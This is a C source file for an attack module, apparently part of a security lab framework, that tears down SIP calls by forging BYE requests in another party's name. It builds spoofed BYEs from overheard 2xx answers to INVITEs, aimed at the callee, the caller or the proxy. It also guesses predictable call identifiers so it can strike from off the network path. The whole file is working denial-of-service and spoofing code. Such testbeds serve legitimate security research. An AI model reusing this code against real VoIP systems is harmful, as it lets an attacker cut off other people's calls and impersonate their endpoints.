/* dos-bye-teardown - ends calls by a BYE in the other side's name. */
#include "lab/attacker/strike.h"
#include "lab/base/address.h"
#include "lab/base/slice.h"
#include "lab/base/text.h"
#include "lab/sip/request.h"
#include "lab/sip/scan.h"
#include "lab/stack/counted.h"
#include "lab/stack/transaction.h"

typedef struct {
  RdStrikeAim aim;
} Config;

enum { VICTIM_CALLEE = 0, VICTIM_CALLER, VICTIM_SERVER };
static const char *const victims[] = {"callee", "caller", "server", NULL};

static const RdParam params[] = {
    RD_CHOICE(Config, "victim", aim.victim, "callee", victims,
              "Who gets the BYE: the callee's phone, in its proxy's name; the caller's; or the "
              "caller's proxy, in the caller's name."),
    RD_STRIKE_ROWS(Config, "30"), RD_PARAM_END};

#define ROUTES 1024

/* The caller's route set: Record-Route from the last to the first (RFC 3261 s12.1.2). */
static bool reversed_routes(const RdSip *sip, char ret[ROUTES]) {
  RdSlice entries[32];
  unsigned n = 0;
  for (const RdSipHeader *h = rd_sip_first(sip, RD_HDR_RECORD_ROUTE); h; h = rd_sip_next(sip, h)) {
    RdSlice rest = h->value;
    for (RdSlice one = rd_sip_split(&rest); one.at; one = rd_sip_split(&rest)) {
      if (n == 32)
        return false;
      entries[n++] = one;
    }
  }
  RdText t = rd_text(ret, ROUTES);
  while (n > 0) {
    rd_text_slice(&t, entries[--n]);
    if (n > 0)
      rd_text_add(&t, ", ");
  }
  return !t.full;
}

/* Who can be hit where this answer passes: the callee at its own door, the others at the caller's. */
static bool is_here(int victim, const RdMessage *m) {
  if (victim == VICTIM_CALLEE)
    return rd_uri_is_at(m->sip->contact_uri, rd_hop_source(m));
  return rd_hop_is_clients(m->sip);
}

/* The caller's own URI, from what an answer shows of it: From's user, at who wrote the Via. */
static bool caller_uri(const RdSip *sip, const RdAddress *caller, char *ret, size_t cap) {
  char host[RD_ADDRESS_TEXT];
  rd_address_text(caller, host);
  RdText t = rd_text(ret, cap);
  rd_text_add(&t, "sip:");
  if (sip->from_at.user.len > 0) {
    rd_text_slice(&t, sip->from_at.user);
    rd_text_char(&t, '@');
  }
  rd_text_add(&t, host);
  return !t.full;
}

/* The BYE that an overheard 2xx to INVITE makes possible. Length, 0: it does not fit. */
static size_t write_bye(RdStrikes *s, int victim, const RdMessage *m, char *buffer, size_t cap) {
  const RdSip *sip = m->sip;
  char branch[RD_SIP_BRANCH], routes[ROUTES], uri[256];
  const bool to_caller = victim == VICTIM_CALLER;
  RdSipRequest r = {.method = "BYE",
                    .uri = sip->contact_uri,
                    .from_uri = to_caller ? sip->to_uri : sip->from_uri,
                    .from_tag = to_caller ? sip->to_tag : sip->from_tag,
                    .to_uri = to_caller ? sip->from_uri : sip->to_uri,
                    .to_tag = to_caller ? sip->from_tag : sip->to_tag,
                    .call_id = sip->call_id,
                    .cseq = to_caller ? 1 : sip->cseq + 1,
                    .local = to_caller ? *rd_hop_source(m) : *rd_hop_target(m)};
  rd_strikes_branch(s, sip->call_id, 0, branch);
  r.branch = rd_slice(branch);
  r.local.transport = RD_UDP;
  if (to_caller) {
    if (!caller_uri(sip, rd_hop_target(m), uri, sizeof uri))
      return 0;
    r.uri = rd_slice(uri);
  } else if (victim == VICTIM_SERVER) {
    if (!reversed_routes(sip, routes))
      return 0;
    r.route = rd_slice(routes[0] ? routes : NULL);
  }
  return rd_sip_write(&r, buffer, cap);
}

static void intercept(void *self, const RdMessage *m, RdVerdict *verdict) {
  RdStrikes *s = self;
  const RdStrikeAim *aim = rd_strikes_aim(s);
  char buffer[RD_STRIKE_BYTES];
  (void)verdict;
  if (aim->knows != RD_KNOWS_LINE || !m->sip || m->sip->is_request ||
      m->sip->method != RD_SIP_INVITE || m->sip->status / 100 != 2 || !is_here(aim->victim, m) ||
      !rd_strike_wanted(s, m))
    return;
  const bool back = aim->victim != VICTIM_CALLER; /* towards who sent the answer */
  const RdStrike strike = {.source = back ? *rd_hop_target(m) : *rd_hop_source(m),
                           .target = back ? *rd_hop_source(m) : *rd_hop_target(m),
                           .bytes = buffer,
                           .len = write_bye(s, aim->victim, m, buffer, sizeof buffer)};
  rd_strike(s, m, &strike);
}

static void hex(uint64_t bits, char ret[17]) {
  RdText t = rd_text(ret, 17);
  rd_text_hex(&t, bits, 16);
}

/* Off the path: the caller's phone, in its proxy's name, and all identifiers as a phone that counts has
 * them. Whose names stand in From and To no phone looks at. */
static void guess(RdStrikes *s, uint64_t n, char buffer[RD_STRIKE_BYTES], RdStrike *ret) {
  char call[17], tag[17], branch[RD_SIP_BRANCH], uri[256];
  RdStrikeTarget t;
  rd_strike_target(s, n, &t);
  hex(rd_counted_call(t.phone, t.attempt, 0), call);
  hex(RD_COUNTED_TAG, tag);
  rd_strikes_branch(s, rd_slice(call), n + 1, branch);
  rd_address_text(&t.address, uri + 4);
  memcpy(uri, "sip:", 4);
  const RdSipRequest r = {.method = "BYE",
                          .uri = rd_slice(uri),
                          .from_uri = rd_slice(uri),
                          .from_tag = rd_slice(tag),
                          .to_uri = rd_slice(uri),
                          .to_tag = rd_slice(call),
                          .call_id = rd_slice(call),
                          .branch = rd_slice(branch),
                          .cseq = 1,
                          .local = t.server};
  *ret = (RdStrike){t.server, t.address, buffer, rd_sip_write(&r, buffer, RD_STRIKE_BYTES)};
}

static void *open_teardown(RdHost *host, const void *config, const RdActorSetup *setup) {
  return rd_strikes_new(host, setup, config, guess);
}

RD_PART(RD_ATTACK, "dos-bye-teardown",
        "Ends other people's calls by a BYE in the other side's name.", RD_CONFIG(Config, params),
        RD_ACTOR_OPS(.open = open_teardown, .intercept = intercept, RD_STRIKE_OPS),
        .interface = RD_IF_GM, .family = "dos");
